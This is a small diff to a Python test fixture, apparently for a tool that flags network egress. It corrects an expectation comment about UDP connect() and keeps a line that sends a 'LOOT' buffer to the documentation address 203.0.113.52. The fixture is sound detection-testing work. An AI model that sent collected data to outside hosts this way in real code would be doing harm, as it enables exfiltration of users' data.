@@ -36,7 +36,8 @@ def udp_sendto():
 
 def udp_connected_send():
     u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    # expect: egress host=203.0.113.52
+    # connect() on a datagram socket sends no packet; the send below does.
+    # expect: none
     u.connect(("203.0.113.52", 5353))
     # expect: egress host=203.0.113.52
     u.send(LOOT[:512])
